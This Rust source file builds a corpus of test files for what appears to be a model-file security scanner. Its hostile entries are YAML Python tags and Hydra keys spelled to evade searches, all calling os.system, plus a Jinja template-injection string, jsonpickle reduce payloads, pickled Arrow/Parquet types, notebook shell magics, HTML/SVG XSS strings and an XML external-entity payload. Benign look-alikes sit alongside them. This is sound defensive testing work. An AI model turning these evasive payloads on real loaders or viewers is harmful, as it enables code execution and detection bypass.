//! Files beside a model that a loader or a viewer takes for more than text: YAML, JSON, tables, R, notebooks, documents.

use serde_json::{Value, json};

use super::make::deflate::gzip;
use super::make::pickle::attack;
use super::make::zip::zip;
use super::{Entry, Technique};

const GROUP: &str = "beside";

pub fn entries() -> Vec<Entry> {
    [tags(), keys(), templates(), configurations(), serializers(), tables(), cells(), documents(), sources(), benign()]
        .concat()
}

fn case(technique: Technique, name: &str, bytes: impl Into<Vec<u8>>) -> Entry {
    Entry::hostile(GROUP, technique, name, bytes)
}

/// Tags of YAML, spelled so that no search for `python/object` finds them, and tags of other loaders.
fn tags() -> Vec<Entry> {
    let cases = [
        ("tag-cut-by-a-directive", "%TAG !p! tag:yaml.org,2002:py\n---\na: !p!thon/object/apply:os.system ['true']\n"),
        ("tag-behind-a-directive", "%TAG !p! tag:yaml.org,2002:python/object/\n---\na: !p!apply:os.system ['true']\n"),
        ("tag-of-the-primary-handle", "%TAG ! tag:yaml.org,2002:python/\n---\na: !name:os.system ''\n"),
        ("tag-with-an-escape", "a: !!p%79thon/object/apply:os.system ['true']\n"),
        ("tag-verbatim-with-an-escape", "a: !<tag:yaml.org,2002:pytho%6e/object/new:os.system> ['true']\n"),
        ("tag-in-the-second-document", "a: 1\n---\nb: !!python/object/apply:os.system ['true']\n"),
        ("tag-of-a-key", "? !!python/object/apply:os.system ['true']\n: a\n"),
        ("tag-behind-a-separator", "# a comment\u{2028}a: !!python/object/apply:os.system ['true']\n"),
        ("tag-behind-a-next-line", "# a comment\u{85}a: !!python/object/apply:os.system ['true']\n"),
        ("tag-of-hyperpyyaml-new", "a: !new:os.system\n  - 'true'\n"),
        ("tag-of-hyperpyyaml-apply", "a: !apply:os.system ['true']\n"),
        ("tag-of-hyperpyyaml-name", "a: !name:os.system\n"),
        ("tag-of-hyperpyyaml-include", "a: !include:../nonexistent.yaml\n"),
        ("tag-of-java", "a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://host.invalid/']]\n"),
        ("tag-of-ruby", "a: !ruby/object:Gem::Installer\n  i: x\n"),
        ("tag-of-nobody", "a: !Thing {x: 1}\n"),
    ];
    let of = |(name, text): (&str, &str)| case(Technique::OtherSerializer, &format!("{name}.yaml"), text);
    cases.into_iter().map(of).collect()
}

/// The key of Hydra, spelled in every way that YAML has.
fn keys() -> Vec<Entry> {
    let cases = [
        ("key-in-two-lines", "? _target_\n: os.system\n"),
        ("key-by-an-alias", "a: &k _target_\nb:\n  *k : os.system\n"),
        ("key-escaped", "b:\n  \"_targ\\x65t_\": os.system\n"),
        ("key-escaped-as-unicode", "b:\n  \"_targ\\u0065t_\": os.system\n"),
        ("key-folded", "? \"_tar\\\n  get_\"\n: os.system\n"),
        ("key-before-a-line-break", "a: {_target_\n  : os.system}\n"),
        ("key-with-a-tag", "a: {!!str _target_ : os.system}\n"),
        ("key-of-an-anchor", "a: {&x _target_ : os.system}\n"),
        ("value-by-an-alias", "a: &v os.system\nb: {_target_: *v}\n"),
        ("key-behind-a-separator", "# a comment\u{2029}_target_: os.system\n"),
    ];
    let of = |(name, text): (&str, &str)| case(Technique::Nemo, &format!("{name}.yaml"), text);
    let mut entries: Vec<_> = cases.into_iter().map(of).collect();
    let described = "flavors:\n  python_function:\n    \"loader_modul\\x65\": ours\n";
    entries.push(Entry::hostile_folder(GROUP, Technique::CodeBeside, "mlflow", &[("MLmodel", described.as_bytes())]));
    entries
}

/// Templates of prompts, which some loaders render without a sandbox.
fn templates() -> Vec<Entry> {
    let template = "{{ ''.__class__.__mro__[1].__subclasses__() }}";
    vec![
        case(Technique::Template, "prompts.yaml", format!("system_prompt: |-\n  You are.\n  {template}\n")),
        case(Technique::Template, "prompt-folded.yaml", "a: \"{{ ''.__cla\\\n  ss__ }}\"\n"),
        case(
            Technique::Template,
            "prompt.json",
            json!({"_type": "prompt", "template_format": "jinja2", "template": template}).to_string(),
        ),
        case(
            Technique::Template,
            "agent-prompts.json",
            json!({"prompt_templates": {"system_prompt": template}}).to_string(),
        ),
    ]
}

/// Configurations that name what a loader imports or calls, by keys of single libraries.
fn configurations() -> Vec<Entry> {
    let folder = |name: &str, file: &str, value: Value| {
        Entry::hostile_folder(GROUP, Technique::CodeBeside, name, &[(file, value.to_string().as_bytes())])
    };
    vec![
        folder("dense-activation", "2_Dense/config.json", json!({"in_features": 4, "activation_function": "os.abort"})),
        folder("cross-encoder", "config.json", json!({"sentence_transformers": {"activation_fn": "code.interact"}})),
        folder("old-cross-encoder", "config.json", json!({"sbert_ce_default_activation_function": "code.interact"})),
        folder("router", "router_config.json", json!({"types": {"query_0": "ours.Module"}, "structure": {}})),
        folder("asymmetric", "config.json", json!({"types": {"0": "ours.Module"}, "structure": {}})),
        folder("megatron", "adapter_config.json", json!({"peft_type": "LORA", "megatron_core": "ours"})),
        folder("modular-pipeline", "modular_model_index.json", json!({"unet": ["ours", "Unet", {"repo": "a/b"}]})),
        folder("agent", "agent.json", json!({"tools": [{"name": "t", "code": "print('corpus')"}]})),
        folder("tool", "tool_config.json", json!({"name": "t", "code": "print('corpus')"})),
        case(
            Technique::CodeBeside,
            "config-with-a-mark.json",
            [&b"\xef\xbb\xbf"[..], json!({"auto_map": {"AutoModel": "x.Y"}}).to_string().as_bytes()].concat(),
        ),
    ]
}

/// jsonpickle, and what R serializes.
fn serializers() -> Vec<Entry> {
    let r = b"A\n3\n262657\n197888\n5\nUTF-8\n6\n1\n262153\n4\nquit\n254\n";
    let json = |name: &str, value: Value| case(Technique::OtherSerializer, name, value.to_string());
    let other = |name: &str, bytes: &[u8]| case(Technique::OtherSerializer, name, bytes);
    vec![
        json("jsonpickle-object.json", json!({"py/object": "subprocess.Popen", "args": ["true"]})),
        json("jsonpickle-reduce.json", json!([{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["true"]}]}])),
        json("jsonpickle-repr.json", json!({"a": {"py/repr": "os/os.system('true')"}})),
        json("jsonpickle-rows.jsonl", json!({"py/type": "os.system"})),
        other("text.rds", r),
        other("text", r),
        other("text.rds.gz", &gzip(r)),
        other("text.txt", r),
        other("workspace.RData", &[b"RDA3\n", &r[..]].concat()),
        other("binary.rds", &gzip(b"X\n\0\0\0\x03\0\x04\x02\x01\0\x03\x05\0")),
        other("native.rds", b"B\n\x03\0\0\0\x01\x02\x04\0\0\x05\x03\0"),
        other("in-an-archive.zip", &zip(&[("model.rds", r)])),
        // Both a pickle of one text and the beginning of what R reads.
        other("pickle-and-r.pkl", b"X\n\0\0\0\x03\0\x04\x02\x01\0\x03\x05\0\0."),
    ]
}

fn size(bytes: &[u8]) -> [u8; 4] {
    u32::try_from(bytes.len()).unwrap().to_le_bytes()
}

fn parquet(metadata: &[u8]) -> Vec<u8> {
    [b"PAR1data", metadata, &size(metadata), b"PAR1"].concat()
}

fn arrow(schema: &[u8], footer: &[u8]) -> Vec<u8> {
    [b"ARROW1\0\0\xff\xff\xff\xff", &size(schema)[..], schema, footer, &size(footer), b"ARROW1"].concat()
}

/// Tables with a column whose type is a pickle.
fn tables() -> Vec<Entry> {
    let name = b"ARROW:extension:name\x17\0\0\0arrow.py_extension_type";
    let inside = [&name[..], b"ARROW:extension:metadata", &attack()].concat();
    let in_base64 = |before: &str| {
        let text = data_encoding::BASE64.encode(&inside);
        parquet(format!("\x18\x0cARROW:schema\x18{before}{text}").as_bytes())
    };
    let of = |name: &str, bytes: Vec<u8>| case(Technique::OtherSerializer, name, bytes);
    vec![
        of("type.parquet", in_base64("")),
        of("type-behind-a-letter.parquet", in_base64("A")),
        of("type-plain.parquet", parquet(&inside)),
        of("type.arrow", arrow(&inside, b"footer")),
        of("type-in-the-footer.arrow", arrow(b"schema", &inside)),
        of("type.feather", arrow(&inside, &inside)),
        of("pickled-objects.parquet", parquet(b"ray.data.arrow_pickled_object")),
        of("vectors-of-r.parquet", parquet(b"arrow.r.vctrs")),
        of("metadata-of-nothing.parquet", b"PAR1\xff\xff\xff\x7fPAR1".to_vec()),
    ]
}

fn notebook(cell: &Value) -> Vec<u8> {
    json!({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).to_string().into_bytes()
}

/// Cells that leave Python, and outputs that run in the viewer.
fn cells() -> Vec<Entry> {
    let sources = [
        json!("files = !ls"),
        json!("a, b = !ls"),
        json!("x = %sx ls"),
        json!("%system ls"),
        json!("%timeit !ls"),
        json!("get_ipython ().getoutput('ls')"),
        json!("get_ipython().run_line_magic('sx', 'ls')"),
        json!("%pip install ours"),
        json!("%%python\nprint('corpus')"),
        json!("%%file x.py\nx"),
        json!("%alias x ls"),
        json!(["%%ba", "sh\nls"]),
        json!(["x = 1\n", "!", "ls"]),
        json!("%%html\n<b onpointerenter=x>"),
    ];
    let source = |(index, source): (usize, Value)| {
        let cell = json!({"cell_type": "code", "source": source, "outputs": []});
        case(Technique::CodeBeside, &format!("source-{index:02}.ipynb"), notebook(&cell))
    };
    let mut entries: Vec<_> = sources.into_iter().enumerate().map(source).collect();
    let output = |(index, html): (usize, &Value)| {
        let cell = json!({"cell_type": "code", "source": "x", "outputs": [{"data": {"text/html": html}}]});
        case(Technique::ActiveContent, &format!("output-{index:02}.ipynb"), notebook(&cell))
    };
    let mut shown: Vec<_> = ACTIVE.iter().map(|text| json!(text)).collect();
    shown.extend([json!(["<scr", "ipt>x</script>"]), json!(["<img src=x oner", "ror=x>"])]);
    entries.extend(shown.iter().enumerate().map(output));
    let latex =
        json!({"cell_type": "code", "source": "x", "outputs": [{"data": {"text/latex": "\\href{javascript:x}{y}"}}]});
    entries.push(case(Technique::ActiveContent, "output-of-latex.ipynb", notebook(&latex)));
    entries
}

/// Pieces of HTML that run in a viewer.
const ACTIVE: &[&str] = &[
    "<img src=x onerror =x>",
    "<img src=x onerror\n=x>",
    "<img src=x onpointerenter=x>",
    "<img alt='>' onfocus=x>",
    "<details ontoggle=x open>",
    "<svg><animate onbegin=x>",
    "<svg/onload=x>",
    "<a href='jav&#x61;script:x'>",
    "<a href='java\tscript:x'>",
    "<a href='javascript&colon;x'>",
    "<a href='data:text/html,x'>",
    "<base href=//host.invalid>",
    "<applet>",
];

fn documents() -> Vec<Entry> {
    let of = |(index, text): (usize, &&str)| {
        case(Technique::ActiveContent, &format!("document-{index:02}.html"), text.as_bytes())
    };
    let mut entries: Vec<_> = ACTIVE.iter().enumerate().map(of).collect();
    for (name, text) in [
        ("style.xml", "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"a.xsl\"?><a/>"),
        ("entity.xml", "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///nonexistent\">]><a>&b;</a>"),
        ("picture.xml", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>x</script></svg>"),
        ("prefixed.svg", "<s:svg xmlns:s=\"http://www.w3.org/2000/svg\"><s:script>x</s:script></s:svg>"),
        ("page.mht", "MIME-Version: 1.0\n\n<script>x</script>"),
    ] {
        entries.push(case(Technique::ActiveContent, name, text));
    }
    entries
}

/// Programs in languages that are rarer, and files that a program runs by their name.
fn sources() -> Vec<Entry> {
    let names = [
        "a.ipy", "a.cjs", "a.jsx", "a.fish", "a.csh", "a.kts", "a.groovy", "a.rmd", "a.m", "a.vb", "a.jsp", "a.cuh",
        "a.xsl",
    ];
    let by_name = ["Makefile", "Dockerfile", "Jenkinsfile", ".bashrc", ".envrc"];
    let of = |name: &&str| case(Technique::CodeBeside, name, "print('corpus')\n");
    names.iter().chain(&by_name).map(of).collect()
}

/// What looks like the above and is none of it.
fn benign() -> Vec<Entry> {
    let benign = |name: &str, text: &str| Entry::benign(GROUP, name, text);
    vec![
        benign(
            "texts.yaml",
            "a: '!apply:os.system'\nb: |\n  !new:a.b\n  %TAG\nc: \"x\\u0065\"\nd: !!int 1\ne: &x [1]\nf: *x\n",
        ),
        benign("several.yaml", "---\na: 1\n---\nb: !!python/tuple [1, 2]\n...\n"),
        benign("template.yaml", "prompt: |\n  {{ user.name }} says {% if x %}hello{% endif %} {{unclosed\n"),
        benign("comment.md", "<!-- a comment -->\n# Title\n<img src=a.png>\n"),
        benign("jsonpickle-values.json", r#"{"a": {"py/tuple": [1, 2]}, "b": {"py/set": ["x"]}}"#),
        benign(
            "activation.json",
            r#"{"activation_function": "torch.nn.modules.activation.Tanh", "types": {"0": "x"}}"#,
        ),
        benign(
            "model.xml",
            "<?xml version=\"1.0\"?>\n<net name=\"m\" version=\"11\"><layers><layer id=\"0\"/></layers></net>",
        ),
        Entry::benign(GROUP, "rows.parquet", parquet(b"\x15\x04\x19ARROW:schema")),
        Entry::benign(GROUP, "rows.arrow", arrow(b"schema", b"footer")),
        Entry::benign(
            GROUP,
            "plot.ipynb",
            notebook(&json!({
                "cell_type": "code",
                "source": ["%load_ext autoreload\n", "%matplotlib inline\n", "x = 1 if a != b else 2\n", "y = 5 % len(x)"],
                "outputs": [{"data": {"text/html": ["<table><tr><td>on = 1</td>", "<td>once == 2</td></tr></table>"]}}],
            })),
        ),
    ]
}
